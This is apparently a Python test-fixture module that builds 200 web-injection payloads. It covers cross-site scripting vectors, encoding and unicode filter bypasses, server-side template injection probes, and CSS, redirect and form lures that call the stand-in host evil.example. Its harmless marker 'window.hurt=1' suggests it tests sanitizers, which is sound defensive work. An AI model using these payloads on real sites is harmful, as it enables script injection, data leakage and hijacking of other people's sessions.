"""Two hundred words that try to do something, by kind: each would set `window.hurt` or fetch from `evil.example`."""

from itertools import chain, islice, product


DO = "window.hurt=1"
AWAY = "https://evil.example/x"

OPENERS = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</option></select>",
    "--></mark>",
    "</script>",
    "]]>",
    "</blockquote></section>",
)
ELEMENTS = (
    f"<script>{DO}</script>",
    f"<SCRIPT/x>{DO}</SCRIPT>",
    f"<img src=x onerror={DO}>",
    f"<svg/onload={DO}>",
    f"<svg><script>{DO}</script></svg>",
    f"<math><mtext><style><img src=x onerror={DO}></style></mtext></math>",
    f"<iframe srcdoc='<script>parent.{DO}</script>'></iframe>",
    f"<details open ontoggle={DO}>x</details>",
)
EVENTS = (
    "onclick",
    "onfocus autofocus",
    "onmouseover",
    "onanimationstart",
    "onpointerenter",
    "onbeforeinput",
    "oncut",
    "ontoggle",
)
QUOTES = ('"', "'", "`", " ", "&quot;", "&#34;", "&#x27;", "\u2033")
SCHEMES = (
    f"javascript:{DO}",
    f"JaVaScRiPt:{DO}",
    f" javascript:{DO}",
    f"java\tscript:{DO}",
    f"&#106;avascript:{DO}",
    f"data:text/html,<script>{DO}</script>",
    f"vbscript:{DO}",
    f"javascript://%0a{DO}",
)
TEMPLATES = (
    "{{ 7 * 191 }}",
    "{% set one = 7 * 191 %}{{ one }}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{# gone #}",
    "${7*191}",
    "#{7*191}",
    "<%= 7*191 %>",
    "%(name)s %s %d {0} {name}",
    "{{constructor.constructor('window.hurt=1')()}}",
)
STYLES = (
    f"<style>*{{background:url({AWAY})}}</style>",
    f"<link rel=stylesheet href={AWAY}>",
    f'x" style="background:url({AWAY})',
    "<style>body{display:none}</style>",
    f"@import url({AWAY});",
    "expression(window.hurt=1)",
)
PAGE = (
    f"<base href={AWAY}>",
    f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    f"<form action={AWAY}><button>Save and go on</button></form>",
    f"<object data={AWAY}></object>",
    f"<embed src={AWAY}>",
    f"<video><source onerror={DO}></video>",
    f"<audio src=x onerror={DO}>",
    f"<template><script>{DO}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={DO}>'></noscript>",
    f"<input autofocus onfocus={DO}>",
    f"<body onload={DO}>",
    f"<marquee onstart={DO}>x</marquee>",
    "<plaintext>",
    "<!--",
    "<![CDATA[<script>window.hurt=1</script>]]>",
    "<?xml-stylesheet href='x'?>",
    "</main></body></html>",
    f"<a href=javascript:{DO} id=main name=main>x</a>",
    "<img name=querySelectorAll><form id=main><input name=attributes></form>",
)
LETTERS = (
    f"\uff1cscript\uff1e{DO}\uff1c/script\uff1e",
    f"\u2039script\u203a{DO}",
    f"\u202e>tpircs<{DO}",
    f"<scr\u0000ipt>{DO}</script>",
    f"<scr\u200bipt>{DO}</script>",
    f"<\u0130mg src=x onerror={DO}>",
    f"<img\u000csrc=x\u000conerror={DO}>",
    f"<img/\u2028src=x\u2028onerror={DO}>",
    f"+ADw-script+AD4-{DO}+ADw-/script+AD4-",
    f"%3Cscript%3E{DO}%3C/script%3E",
    f"\\u003cscript\\u003e{DO}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{DO}",
    f"&lt;script&gt;{DO}&lt;/script&gt;",
    f"&#60;script&#62;{DO}&#60;/script&#62;",
    f"\ufeff<script>{DO}</script>",
    f"<<script>{DO}//<</script>",
)
N = 200


def payloads():
    """Return the two hundred, every kind among them; NUL, which no text of a study can hold, is left out."""
    whole = (TEMPLATES, STYLES, PAGE, LETTERS, SCHEMES)
    events = [f"{quote} {event}={DO} x={quote}" for event, quote in product(EVENTS, QUOTES)]
    elements = [before + element for before, element in product(OPENERS, ELEMENTS)]
    every = dict.fromkeys(text.replace("\u0000", "") for text in chain(*whole, events, elements))
    return tuple(islice(every, N))
